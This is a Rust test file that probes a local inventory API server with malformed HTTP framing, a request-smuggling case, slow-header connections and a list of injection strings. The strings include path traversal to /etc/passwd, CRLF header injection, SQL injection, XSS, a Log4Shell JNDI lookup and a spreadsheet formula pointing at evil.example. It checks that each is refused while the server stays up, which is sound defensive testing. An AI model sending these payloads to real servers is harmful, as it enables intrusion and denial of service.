//! What no honest client sends to the real server: it is refused with a 4xx, and nobody else notices.
//!
//! Each test has a server of its own, sends a bounded number of bytes, and asks it a control question afterwards.

use std::collections::BTreeSet;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::roles::{Server, get, send};

const STORES: &str = "/api/v1/stores";
const STOCK: &str = "/api/v1/inventory/stock";

/// What a server may take to answer the control question on a busy machine.
const CONTROL: Duration = Duration::from_secs(5);

/// What the server says to these bytes until it closes or says nothing more.
fn told(server: &Server, bytes: &[u8]) -> String {
    let mut stream = TcpStream::connect(&server.address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    // it may close before it has read all
    let _ = stream.write_all(bytes);
    let mut answer = Vec::new();
    let mut chunk = [0; 4096];
    while let Ok(read @ 1..) = stream.read(&mut chunk) {
        answer.extend_from_slice(&chunk[..read]);
    }
    String::from_utf8_lossy(&answer).into_owned()
}

#[track_caller]
fn still_serves(server: &Server, after: &str) {
    let begun = Instant::now();
    let answer = server.get(STORES);
    assert!(answer.starts_with("HTTP/1.1 200 OK"), "after {after}: {answer}");
    assert!(begun.elapsed() < CONTROL, "after {after}: {:?}", begun.elapsed());
}

fn status(answer: &str) -> u16 {
    answer.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0)
}

#[test]
fn wrongly_framed_requests_are_refused() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start_with(&folder, "all", &[]);
    let get = |path: &[u8]| {
        [b"GET ", path, b" HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n"].concat()
    };
    let post = |head: &str, body: &str| {
        format!(
            "POST {STOCK} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
             connection: close\r\n{head}\r\n{body}"
        )
        .into_bytes()
    };
    let hello = "GET /health/live HTTP/1.1\r\nhost: localhost\r\n\r\n";
    let cases: [(&str, Vec<u8>, &[u16]); 12] = [
        ("NUL in the path", get(b"/api/v1/stores/\0"), &[400]),
        ("NUL in code", get(b"/api/v1/stores/%00"), &[400]),
        ("no UTF-8 in code", get(b"/api/v1/stores/%FF"), &[400]),
        ("bytes that are no UTF-8", get(b"/api/v1/stores/\xff\xfe"), &[400, 404]),
        ("a query that is no UTF-8", get(b"/api/v1/stores?near=%FF%FE"), &[400, 422]),
        ("100,000 headers", post(&"a: b\r\n".repeat(100_000), ""), &[431]),
        ("a length twice", post("content-length: 2\r\ncontent-length: 3\r\n", "{}"), &[400]),
        ("a length without sense", post("content-length: -1\r\n", "{}"), &[400]),
        ("a length beyond all", post("content-length: 99999999999999999999\r\n", "{}"), &[400]),
        (
            "a chunk beyond all",
            post("transfer-encoding: chunked\r\n", "fffffffffffffffff\r\n"),
            &[400],
        ),
        (
            "chunks of a byte, more than a body may have",
            post("transfer-encoding: chunked\r\n", &"1\r\n \r\n".repeat(300_000)),
            &[413],
        ),
        (
            "an extension of a chunk without end",
            post("transfer-encoding: chunked\r\n", &format!("1;{}", "x".repeat(200_000))),
            &[400],
        ),
    ];
    for (name, bytes, expected) in cases {
        let answer = told(&server, &bytes);
        assert!(expected.contains(&status(&answer)), "{name}: {answer:.300}");
        still_serves(&server, name);
    }
    // as many as one likes in one connection, each is answered in its turn, up to the one that is none
    let pipeline = hello.repeat(500) + "nonsense\r\n\r\n";
    let answer = told(&server, pipeline.as_bytes());
    assert_eq!(answer.matches("HTTP/1.1 200 OK").count(), 500);
    assert_eq!(answer.matches("HTTP/1.1 400 Bad Request").count(), 1);
    // a length and chunks at once are how requests are smuggled: never two answers
    let smuggled =
        post("content-length: 5\r\ntransfer-encoding: chunked\r\n", &format!("0\r\n\r\n{hello}"));
    assert_eq!(told(&server, &smuggled).matches("HTTP/1.1 ").count(), 1);
    still_serves(&server, "a smuggled request");
}

#[test]
fn heads_that_come_slowly_are_cut_within_ten_seconds() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start_with(&folder, "all", &[]);
    let begun = Instant::now();
    let mut slow: Vec<TcpStream> =
        (0..200).map(|_| TcpStream::connect(&server.address).unwrap()).collect();
    // each goes on with a byte a second, and is cut all the same
    let head = format!("GET {STORES} HTTP/1.1\r\nhost: localhost\r\nx-slow: {}", "x".repeat(60));
    for byte in head.as_bytes() {
        slow.retain_mut(|stream| stream.write_all(&[*byte]).is_ok());
        if slow.is_empty() {
            break;
        }
        still_serves(&server, "a byte of a slow head");
        std::thread::sleep(Duration::from_secs(1));
    }
    assert!(slow.is_empty(), "{} are still there", slow.len());
    let took = begun.elapsed();
    // a write after the cut is noticed by the one that follows it
    assert!(took < Duration::from_secs(10 + 15), "{took:?}");
}

/// Everything below a folder.
fn files(folder: &Path) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path));
        }
        found.insert(path.display().to_string());
    }
    found
}

#[test]
fn names_are_names_wherever_they_are_put() {
    let outer = tempfile::tempdir().unwrap();
    let folder = tempfile::tempdir_in(outer.path()).unwrap();
    let server = Server::start_with(&folder, "all", &[]);
    let register =
        |path: &str, body: &Value| send(&server.address, "POST", path, &body.to_string());
    let product = json!({"sku": "P-1", "name": "One"});
    assert_eq!(status(&register("/api/v1/products", &product)), 201);
    let before = files(outer.path());
    let long = "x".repeat(10_000);
    let names = [
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "....//....//etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "a\0b",
        "a\r\nset-cookie: stolen=1",
        "a\n{\"level\":\"ERROR\"}",
        "'; DROP TABLE stores; --",
        "\" OR 1=1 --",
        "a,measure=1 value=2 3",
        "=HYPERLINK(\"http://evil.example\")",
        "@SUM(1)",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "\u{202e}evil",
        &long,
    ];
    for name in names {
        let in_path: Vec<String> = name.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let in_path = in_path.concat();
        let answers = [
            register(STORES, &json!({"code": name, "name": "Name", "region": "SP"})),
            register(STORES, &json!({"code": "S-1", "name": name, "region": name})),
            register("/api/v1/products", &json!({"sku": name, "name": name})),
            register(STOCK, &json!({"storeCode": name, "productSku": name, "quantity": 1})),
            get(&server.address, &format!("/api/v1/products/{in_path}")),
            get(&server.address, &format!("/api/v1/inventory/stores/{in_path}/products/{in_path}")),
            get(&server.address, &format!("{STORES}?region={in_path}")),
        ];
        for answer in answers {
            let head = answer.split("\r\n\r\n").next().unwrap().to_ascii_lowercase();
            let status = status(&answer);
            assert!((200..500).contains(&status), "{name:.60}: {answer:.300}");
            assert!(!head.contains("\r\nset-cookie"), "{name:.60}: {head}");
            assert!(!answer.contains("root:"), "{name:.60}: {answer:.300}");
        }
    }
    still_serves(&server, "names");
    let known = get(&server.address, "/api/v1/products/P-1");
    assert!(known.contains("\"name\":\"One\""), "what was there is there: {known}");
    let new: Vec<_> = files(outer.path()).difference(&before).cloned().collect();
    assert!(new.iter().all(|path| path.contains("/data/")), "no file beside the data: {new:?}");
}
